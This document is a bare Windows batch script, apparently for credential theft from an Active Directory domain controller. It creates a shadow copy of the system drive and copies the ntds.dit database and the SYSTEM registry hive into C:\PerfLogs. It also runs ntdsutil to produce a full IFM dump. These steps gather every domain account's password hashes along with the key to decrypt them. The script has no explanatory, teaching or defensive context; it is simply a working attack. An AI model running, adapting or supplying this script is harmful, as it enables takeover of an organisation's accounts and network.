@echo off
vssadmin create shadow /for=C:
copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit C:\PerfLogs\nt.dit
copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\System32\config\SYSTEM C:\PerfLogs\sys.hiv
ntdsutil "ac i ntds" "ifm" "create full C:\PerfLogs\ifm" q q
